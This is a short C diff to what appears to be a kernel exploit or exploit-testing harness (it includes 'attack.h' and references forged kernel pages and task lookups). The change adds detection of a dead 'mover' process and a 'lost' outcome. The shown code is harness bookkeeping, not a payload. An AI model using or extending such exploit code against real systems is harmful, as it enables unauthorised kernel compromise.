@@ -2,6 +2,7 @@
 #include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -121,6 +122,7 @@ bool find_moved(pid_t pid, struct moved *moved)
 			return false;
 		moved->table[i] = slot.slot & -PAGE_SIZE;
 	}
+	moved->pid = pid;
 	if (ktask(pid, &moved->task) || !kernel_page(&moved->forged))
 		return false;
 	memset(zero, 0, sizeof(zero));
@@ -174,19 +176,29 @@ static void wait_for_round(void)
 		usleep(1000);
 }
 
+static bool is_dead(pid_t pid)
+{
+	int status;
+
+	return waitpid(pid, &status, WNOHANG) == pid && !WIFSTOPPED(status);
+}
+
 void change_until_found(struct moved *moved, void (*change_once)(struct moved *moved))
 {
 	uint64_t end = now_ms() + SECONDS * 1000;
 
-	while (!mover->found && moved->changed < ENOUGH && now_ms() < end) {
+	while (!mover->found && !moved->dead && moved->changed < ENOUGH && now_ms() < end) {
 		change_once(moved);
 		wait_for_round();
+		moved->dead = is_dead(moved->pid);
 	}
 }
 
 enum outcome judge_moved(const struct moved *moved)
 {
 	usleep(LAST_LOOK);
+	if (moved->dead && !mover->found)
+		return lost("the mover was killed");
 	if (!mover->found && !moved->changed)
 		return broken("no section was interrupted (%lu rounds, %d handlers held)",
 			      mover->rounds, moved->held);
